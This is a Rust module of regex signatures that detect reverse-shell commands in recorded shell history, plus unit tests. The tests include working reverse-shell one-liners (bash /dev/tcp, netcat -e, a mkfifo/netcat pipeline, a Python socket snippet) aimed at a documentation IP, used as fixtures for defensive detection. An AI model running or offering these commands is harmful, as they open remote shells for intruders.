//! Reverse-shell signature set applied to recorded shell commands.

use once_cell::sync::Lazy;
use regex::Regex;

static BASH_DEV_TCP_RE: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"(?:bash|sh)\s+-i\s*>&\s*/dev/tcp/|/dev/tcp/\d").unwrap());

static NETCAT_EXEC_RE: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"\bnc(?:at)?\b[^|;&]*\s-[a-z]*e\b").unwrap());

static MKFIFO_PIPE_RE: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"\b(?:mkfifo|mknod)\b.*[|;].*\bnc(?:at)?\b").unwrap());

static PYTHON_SOCKET_RE: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"python[23]?\s+-c.*socket.*(?:subprocess|pty|os\.dup2)|import\s+socket\s*,\s*subprocess")
        .unwrap()
});

static PERL_SOCKET_RE: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"perl\s+-e.*socket.*exec").unwrap());

static EXEC_REDIRECT_RE: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"exec\s+\d+<>\s*/dev/tcp/").unwrap());

/// One named signature.
pub struct ShellSignature {
    pub name: &'static str,
    pattern: &'static Lazy<Regex>,
}

static SIGNATURES: &[ShellSignature] = &[
    ShellSignature { name: "bash /dev/tcp redirection", pattern: &BASH_DEV_TCP_RE },
    ShellSignature { name: "netcat -e shell", pattern: &NETCAT_EXEC_RE },
    ShellSignature { name: "mkfifo/netcat pipeline", pattern: &MKFIFO_PIPE_RE },
    ShellSignature { name: "python socket shell", pattern: &PYTHON_SOCKET_RE },
    ShellSignature { name: "perl socket shell", pattern: &PERL_SOCKET_RE },
    ShellSignature { name: "exec fd /dev/tcp redirection", pattern: &EXEC_REDIRECT_RE },
];

/// Names of every signature the command matches.
pub fn match_signatures(command: &str) -> Vec<&'static str> {
    SIGNATURES
        .iter()
        .filter(|s| s.pattern.is_match(command))
        .map(|s| s.name)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classic_bash_reverse_shell_matches() {
        let matches = match_signatures("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1");
        assert_eq!(matches, vec!["bash /dev/tcp redirection"]);
    }

    #[test]
    fn netcat_exec_matches() {
        assert_eq!(
            match_signatures("nc -e /bin/sh 203.0.113.7 4444"),
            vec!["netcat -e shell"]
        );
    }

    #[test]
    fn mkfifo_pipeline_matches() {
        let cmd = "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f";
        assert!(match_signatures(cmd).contains(&"mkfifo/netcat pipeline"));
    }

    #[test]
    fn python_one_liner_matches() {
        let cmd = r#"python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.7",4444))'"#;
        assert!(match_signatures(cmd).contains(&"python socket shell"));
    }

    #[test]
    fn benign_commands_do_not_match() {
        assert!(match_signatures("ls -la /tmp").is_empty());
        assert!(match_signatures("npm run build").is_empty());
        assert!(match_signatures("echo done").is_empty());
        // nc without -e is a plain connection, not a shell.
        assert!(match_signatures("nc -z localhost 8080").is_empty());
    }
}
